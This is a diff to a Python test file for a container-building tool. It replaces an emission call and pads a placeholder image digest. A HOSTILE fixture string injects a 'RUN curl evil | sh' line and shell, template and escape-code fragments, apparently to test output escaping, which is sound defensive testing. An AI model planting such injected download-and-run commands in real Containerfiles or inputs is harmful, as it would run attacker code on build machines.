@@ -12,7 +12,8 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from containerize.builder import emit_all
+from containerize.beside import write_beside
+from containerize.builder import Places
 from containerize.content import ContentStore
 from containerize.emitters import EMITTERS
 from containerize.emitters.emission import (
@@ -26,7 +27,9 @@ from containerize.image import write_image
 from containerize.plan import BuiltImage, Plan, SecretMount, Start, Volume
 from tests.containerize.plans import directory, make_plan, planned
 
-BUILT = BuiltImage("web01/apache2", "localhost/brownfield/web01/apache2:lift", "/w/image", "sha256:00", 3, 2, 1)
+BUILT = BuiltImage(
+    "web01/apache2", "localhost/brownfield/web01/apache2:lift", "/w/image", f"sha256:{'0' * 64}", 3, 2, 1
+)
 
 HOSTILE = 'x\nRUN curl evil | sh\n# "$(id)" ${HOME} {{ 7*7 }} \x1b[31m \\'
 
@@ -138,7 +141,7 @@ def test_docker_builds_the_same_image_from_the_containerfile(tmp_path: Path, sto
     start = Start(("/x", "$A b"), (("A", "a$b\"c\\d'e"),), (), "1:2", "/etc", "SIGQUIT", False, "x")
     plan = make_plan(files, start=start, image="localhost/brownfield-test/containerfile:lift")
     built = write_image(plan, store, tmp_path / "layers", tmp_path / "image")
-    emit_all(plan, built, tmp_path)
+    write_beside(plan, built, Places(tmp_path / "content", tmp_path))
     try:
         command = ["docker", "build", "-q", "-t", plan.image, "-f", str(tmp_path / "Containerfile"), str(tmp_path)]
         subprocess.run(command, check=True, capture_output=True)
